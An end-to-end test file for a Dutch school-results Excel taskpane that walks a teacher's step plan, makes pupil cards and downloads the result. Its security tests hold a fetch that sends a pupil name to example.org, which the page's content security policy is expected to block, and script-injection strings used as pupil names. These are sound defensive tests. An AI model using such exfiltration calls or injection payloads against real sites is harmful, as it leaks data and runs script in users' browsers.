/**
 * What a teacher sees outside Excel: the taskpane in out-of-Excel mode on the demo workbook,
 * walking the stappenplan from the preparation step 0.1 to 2.3, colouring a group and downloading
 * the result.
 * Screenshots of every step visited are kept in test-results/e2e/.
 */
import ExcelJS from "exceljs";
import { mkdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FileWorkbook } from "../../src/workbook/file/file-workbook";
import { toegankelijkheidsfouten } from "./axe";
import { naarBuiten, openTaakvenster, type Sessie } from "./browser";

const SCREENSHOTS = join(__dirname, "..", "..", "test-results", "e2e");
mkdirSync(SCREENSHOTS, { recursive: true });

let sessie: Sessie;
beforeAll(async () => {
  sessie = await openTaakvenster();
});
afterAll(async () => {
  await sessie?.sluit();
});

/** The cell of a pupil's score in the rendered table, by the column letter of the score. */
async function cel(naam: string, kolom: string) {
  const { page } = sessie;
  return page.evaluate(
    ([naam, kolom]) => {
      const rij = [...document.querySelectorAll("table.blad tbody tr")].find(
        (tr) => tr.querySelector("td[data-kolom=A]")?.textContent === naam,
      );
      const td = rij?.querySelector<HTMLElement>(`td[data-kolom=${kolom}]`);
      return { tekst: td?.textContent ?? null, kleur: td?.dataset.kleur ?? null };
    },
    [naam, kolom] as const,
  );
}

async function labelVan(naam: string, kop: string) {
  const { page } = sessie;
  return page.evaluate(
    ([naam, kop]) => {
      const kolom = [...document.querySelectorAll<HTMLElement>("table.blad tbody td")].find(
        (td) => td.textContent === kop,
      )?.dataset.kolom;
      const rij = [...document.querySelectorAll("table.blad tbody tr")].find(
        (tr) => tr.querySelector("td[data-kolom=A]")?.textContent === naam,
      );
      return rij?.querySelector(`td[data-kolom=${kolom}]`)?.textContent ?? null;
    },
    [naam, kop] as const,
  );
}

describe("the taskpane outside Excel", () => {
  it("opens the demo workbook and shows a group sheet as a table", async () => {
    const { page } = sessie;
    expect(await page.textContent("#status")).toContain("buiten Excel");
    await page.getByRole("button", { name: "Voorbeeldwerkmap openen" }).click();
    await page.waitForSelector("table.blad");
    await page.selectOption("#blad", "Groep 5");
    await page.waitForFunction(() => document.querySelector("#tabel h2")?.textContent === "Blad Groep 5");
    expect((await cel("Tess Mulder", "C")).tekst).toBe("45");
  });

  it("walks from the preparation step 0.1 to 2.3, making the Normen sheet and colouring the group on the way", async () => {
    const { page } = sessie;
    const bezocht: string[] = [];
    for (;;) {
      const titel = (await page.textContent("#stap-titel")) ?? "";
      bezocht.push(titel.split(" ")[0]!);
      await page.screenshot({ path: join(SCREENSHOTS, `stap-${titel.split(" ")[0]}.png`), fullPage: true });
      expect(await toegankelijkheidsfouten(page), `stap ${titel}`).toEqual([]);
      if (titel.startsWith("0.1")) {
        await page.getByRole("button", { name: "Blad Normen maken" }).click();
        await page.waitForSelector(".uitkomst.klaar");
        expect(await page.textContent(".uitkomst.klaar p")).toMatch(/^Blad Normen gemaakt met indicatieve lijnen/);
        await page.getByRole("button", { name: "Schoolinstellingen invullen" }).click();
        await page.waitForFunction(() =>
          document.querySelector(".uitkomst p")?.textContent?.includes("Schoolinstellingen bestaat al"),
        );
        expect(await page.$$eval("#blad option", (o) => o.map((x) => x.textContent))).toContain("Normen");
        await page.screenshot({ path: join(SCREENSHOTS, "stap-0.1-voorbereid.png"), fullPage: true });
      }
      if (titel.startsWith("1.1")) {
        await page.getByRole("button", { name: "Dit blad kleuren" }).click();
        await page.waitForSelector(".uitkomst.klaar");
        expect(await page.textContent(".uitkomst.klaar p")).toBe(
          "21 leerlingen gekleurd op ontwikkellijn 2F/1S; 1 score zonder vorige afname.",
        );
        // The Normen sheet still holds the indicatieve lines: the pane says so, and how to replace them.
        expect(await page.textContent(".uitkomst.klaar p.let-op")).toMatch(
          /^Groen en blauw rusten op de indicatieve lijn van LVS Analyse.*stap 0\.1 Voorbereiden/,
        );
        await page.screenshot({ path: join(SCREENSHOTS, "stap-1.1-gekleurd.png"), fullPage: true });
        expect(await toegankelijkheidsfouten(page), "1.1 gekleurd").toEqual([]);
        await page.locator(".uitkomst.klaar").screenshot({ path: join(SCREENSHOTS, "indicatieve-lijnen.png") });
      }
      if (titel.startsWith("2.3")) break;
      await page.getByRole("button", { name: "Volgende →" }).click();
    }
    expect(bezocht).toEqual(["0.1", "1.1", "1.2", "1.3", "1.4", "1.5", "2.1", "2.2", "2.3"]);
    expect(await page.getAttribute(".stapknop[aria-current=step]", "class")).toContain("stapknop");
  });

  it("shows the colours and labels of named pupils in the table (checked by hand)", async () => {
    await sessie.page.waitForSelector("td[data-kleur]");
    // 2F/1S line at 5b: 48; expected growth 5a → 5b: 8.
    expect(await cel("Tess Mulder", "C")).toEqual({ tekst: "45", kleur: "donkerblauw" }); // 37 → 45: below, 8/8 counts as expected
    expect(await cel("Hanna Bakker", "C")).toEqual({ tekst: "45,0", kleur: "donkerblauw" }); // text "45,0": below, 9/8
    expect(await cel("Otis de Vries", "C")).toEqual({ tekst: "42", kleur: "lichtblauw" }); // 40 → 42: below, 2/8
    expect(await cel("Wessel Hendriks", "C")).toEqual({ tekst: "51", kleur: "donkergroen" }); // 43 → 51: ties count
    expect(await labelVan("Wessel Hendriks", "Kleur rekenen")).toBe("donkergroen");
    expect(await labelVan("Otis de Vries", "Niveau rekenen")).toBe("geen resultaat"); // 42 is under 5b's lowest score, 44
  });

  it("offers the result as a download that reads back with the colouring in it", async () => {
    const { page } = sessie;
    const [bestand] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: "Resultaat downloaden" }).click(),
    ]);
    expect(bestand.suggestedFilename()).toBe("Voorbeeldwerkmap De Vlinderboom - LVS Analyse.xlsx");
    const wb = await FileWorkbook.open(readFileSync((await bestand.path())!));
    const { sheets } = await wb.read({ sheets: ["Groep 5"] });
    const cellen = sheets[0]!.cellen;
    const kop = cellen.find((r) => r.includes("Kleur rekenen"))!;
    const kolom = kop.indexOf("Kleur rekenen");
    expect(cellen.find((r) => r[0] === "Tess Mulder")?.[kolom]).toBe("donkerblauw");
    expect(wb.rulesOf("Groep 5", "LVS Analyse").length).toBeGreaterThan(0);
    // The walker's position travels with the workbook: the next session starts at 2.3.
    expect((await wb.read({ sheets: [] })).settings["lvs.stap"]).toBe("2.3");
    expect(await page.textContent("#werkmap-melding")).toContain("Je eigen bestand is niet veranderd");
  });

  it("can be worked with the keyboard: Enter on Volgende moves on and puts the focus on the new step", async () => {
    const { page } = sessie;
    await page.focus("button:has-text('Volgende')");
    await page.keyboard.press("Enter");
    expect(await page.textContent("#stap-titel")).toMatch(/^2\.4 /);
    expect(await page.evaluate(() => document.activeElement?.id)).toBe("stap-titel");
    await page.focus("button:has-text('Vorige')");
    await page.keyboard.press("Enter");
    expect(await page.textContent("#stap-titel")).toMatch(/^2\.3 /);
  });

  it("lets the user correct the column mapping, and colours with the correction", async () => {
    const { page } = sessie;
    await page.click("#indeling summary");
    // The user says column H (technisch lezen 5a) and I should not be taken along.
    await page.selectOption("select[aria-label='Vaardigheid van kolom H']", "niet");
    await page.selectOption("select[aria-label='Vaardigheid van kolom I']", "niet");
    await page.getByRole("button", { name: "Deze indeling gebruiken" }).click();
    await page.getByRole("button", { name: "Dit blad kleuren" }).click();
    await page.getByRole("button", { name: "Ja, vervangen" }).click();
    await page.waitForFunction(() => !document.querySelector(".uitkomst")?.textContent?.includes("Bezig"));
    expect(await page.textContent(".uitkomst.klaar li:nth-child(3)")).not.toContain("technisch lezen");
    const koppen = await page.$$eval("table.blad tbody td", (tds) => tds.map((t) => t.textContent));
    expect(koppen).toContain("Kleur rekenen");
    expect(koppen).not.toContain("Kleur technisch lezen");
  });

  it("makes kwaliteitskaarten for the chosen group, and a second time only fills empty cells", async () => {
    const { page } = sessie;
    await page.click("#kaarten-blok summary");
    await page.getByLabel("Kwaliteitskaart leerkracht (van het gekozen groepsblad)").check();
    await page.getByLabel("Kwaliteitskaart IB (de hele school)").check();
    await page.getByLabel("Tussenopbrengsten").check();
    await page.getByRole("button", { name: "Kaarten maken" }).click();
    await page.waitForSelector("#kaarten .uitkomst.klaar");
    expect(await page.textContent("#kaarten .uitkomst.klaar p")).toBe(
      "3 kaarten klaar. Wat je zelf al invulde, is niet veranderd.",
    );
    const details = await page.$$eval("#kaarten .uitkomst li", (lis) => lis.map((li) => li.textContent));
    expect(details[0]).toMatch(
      /^Blad Kwaliteitskaart leerkracht gemaakt, met \d+ waarden uit de werkmap al ingevuld\.$/,
    );
    expect(await page.$$eval("#blad option", (os) => os.map((o) => o.textContent))).toEqual(
      expect.arrayContaining(["Kwaliteitskaart leerkracht", "Kwaliteitskaart IB", "Instrument - Tussenopbrengsten"]),
    );
    await page.locator("#kaarten-blok").screenshot({ path: join(SCREENSHOTS, "kwaliteitskaarten.png") });
    await page.getByRole("button", { name: "Kaarten maken" }).click();
    await page.waitForFunction(() =>
      document.querySelector("#kaarten .uitkomst li")?.textContent?.includes("bestond al"),
    );
    expect(await page.textContent("#kaarten .uitkomst li")).toBe(
      "Blad Kwaliteitskaart leerkracht bestond al: niets aan te vullen.",
    );
  });

  it("makes the pupil cards of the group at step 1.4 and shows a card as a sheet", async () => {
    const { page } = sessie;
    await page.selectOption("#blad", "Groep 5");
    await page.click(".stappenlijst summary");
    await page.getByRole("button", { name: "1.4 Leergroei" }).click();
    await page.getByRole("button", { name: "Leerlingkaarten maken" }).click();
    await page.waitForFunction(() =>
      document.querySelector(".acties .uitkomst")?.textContent?.includes("leerlingkaarten gemaakt"),
    );
    expect(await page.textContent(".acties .uitkomst.klaar p")).toMatch(
      /^21 leerlingkaarten gemaakt, elk op een eigen blad en één A4-pagina/,
    );
    await page.selectOption("#blad", "Kaart Tess Mulder");
    await page.waitForFunction(() => document.querySelector("#tabel h2")?.textContent === "Blad Kaart Tess Mulder");
    const cellen = await page.$$eval("table.blad tbody td", (tds) => tds.map((t) => t.textContent));
    expect(cellen).toEqual(
      expect.arrayContaining(["Leerlingkaart Tess Mulder", "Voortgang per afname", "Gesprekspunten", "Afspraken"]),
    );
    await page.screenshot({ path: join(SCREENSHOTS, "leerlingkaart.png"), fullPage: true });
    await page.selectOption("#blad", "Groep 5");
  });

  it("makes the card of one pupil chosen from a list, with hart en handen as spider charts", async () => {
    const { page } = sessie;
    await page.selectOption("#blad", "Groep 6");
    await page.waitForFunction(() => document.querySelector("#tabel h2")?.textContent === "Blad Groep 6");
    await page.getByRole("button", { name: "Leerlingkaart voor één leerling maken" }).click();
    await page.waitForSelector(".leerling-kiezer select");
    const namen = await page.$$eval(".leerling-kiezer option", (os) => os.map((o) => o.textContent));
    expect(namen).toHaveLength(14);
    expect(await toegankelijkheidsfouten(page), "leerling kiezen").toEqual([]);
    await page.getByLabel("Leerling", { exact: true }).selectOption("Kiki Dekker");
    await page.locator(".acties").screenshot({ path: join(SCREENSHOTS, "een-leerling.png") });
    await page.getByRole("button", { name: "Maak de kaart" }).click();
    await page.waitForFunction(() =>
      document.querySelector(".acties .uitkomst")?.textContent?.includes("1 leerlingkaart gemaakt"),
    );
    expect(await page.textContent(".acties .uitkomst.klaar p")).toMatch(/Kaart Kiki Dekker\.$/);
    await page.selectOption("#blad", "Kaart Kiki Dekker");
    await page.waitForFunction(() => document.querySelector("#tabel h2")?.textContent === "Blad Kaart Kiki Dekker");
    await page.waitForSelector("svg.grafiek[data-type=radar]");
    expect(await page.$$eval("svg.grafiek[data-type=radar]", (s) => s.length)).toBe(3);
    const cellen = await page.$$eval("table.blad tbody td", (tds) => tds.map((t) => t.textContent ?? ""));
    expect(cellen.some((t) => t.includes("Mogelijk sociaal wenselijk: sociaalwenselijkheid 62%"))).toBe(true);
    await page.screenshot({ path: join(SCREENSHOTS, "leerlingkaart-hart.png"), fullPage: true });
    await page.selectOption("#blad", "Groep 5");
  });

  it("forbids frames and connections to anywhere but its own origin, so a stray script could not send data out", async () => {
    const { page } = sessie;
    const beleid = await page.getAttribute("meta[http-equiv=Content-Security-Policy]", "content");
    expect(beleid).toContain("connect-src 'self'");
    expect(beleid).toContain("frame-src 'none'");
    expect(beleid).toContain("script-src 'self' https://appsforoffice.microsoft.com;");
    const poging = await page.evaluate(() =>
      fetch("https://example.org/lek?naam=Tess").then(
        () => "verstuurd",
        () => "geweigerd",
      ),
    );
    expect(poging).toBe("geweigerd");
    expect(sessie.verzoeken.some((u) => u.includes("example.org"))).toBe(false);
  });

  it("sends nothing anywhere: every request stays on 127.0.0.1", () => {
    expect(sessie.verzoeken.length).toBeGreaterThan(3);
    expect(naarBuiten(sessie)).toEqual([]);
    expect(sessie.fouten).toEqual([]);
  });
});

describe("text from a workbook", () => {
  it("shows a pupil named like HTML as that text, and runs nothing", async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet("Groep 4");
    ws.addRow(["Naam", "Rekenen 4a", "Rekenen 4b"]);
    ws.addRow(["<img src=x onerror=alert(1)>", 24, 32]);
    ws.addRow(["<script>alert(2)</script>", 20, 30]);
    const data = Buffer.from(await wb.xlsx.writeBuffer());
    const { page } = sessie;
    await page.setInputFiles("#bestand", {
      name: "vreemd.xlsx",
      mimeType: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
      buffer: data,
    });
    // The cards made before are not downloaded: the pane asks first.
    await page.getByRole("button", { name: "Doorgaan zonder bewaren" }).click();
    await page.waitForFunction(() => document.querySelector("#tabel h2")?.textContent === "Blad Groep 4");
    await page
      .getByRole("button", { name: "Dit blad kleuren" })
      .first()
      .click()
      .catch(() => undefined);
    const namen = await page.$$eval("table.blad tbody tr td:first-of-type", (tds) => tds.map((td) => td.textContent));
    expect(namen).toContain("<img src=x onerror=alert(1)>");
    expect(namen).toContain("<script>alert(2)</script>");
    expect(await page.$$("img[src='x']")).toHaveLength(0);
    await page.waitForTimeout(300);
    expect(sessie.dialogen).toEqual([]);
    await page.screenshot({ path: join(SCREENSHOTS, "vreemde-namen.png"), fullPage: true });
  });
});

describe("a file that is no workbook", () => {
  it("gets the same Dutch answer as on the command line, without the reader's English", async () => {
    const { page } = sessie;
    await page.setInputFiles("#bestand", {
      name: "export.csv",
      mimeType: "text/csv",
      buffer: Buffer.from("Naam;Rekenen M5;Rekenen E5\nAda;40;48\nBram;40;47\n"),
    });
    await page.waitForFunction(() => /csv-bestand/.test(document.querySelector("#werkmap-melding")?.textContent ?? ""));
    const melding = (await page.textContent("#werkmap-melding")) ?? "";
    expect(melding).toContain(
      "het is een csv-bestand met gewone tekst, geen werkmap; open het in Excel of LibreOffice en sla het op als Excel-werkmap",
    );
    expect(melding).not.toMatch(/zip|central directory|Error/i);
    await page.locator("#werkmap").screenshot({ path: join(SCREENSHOTS, "geen-werkmap.png") });
  });
});
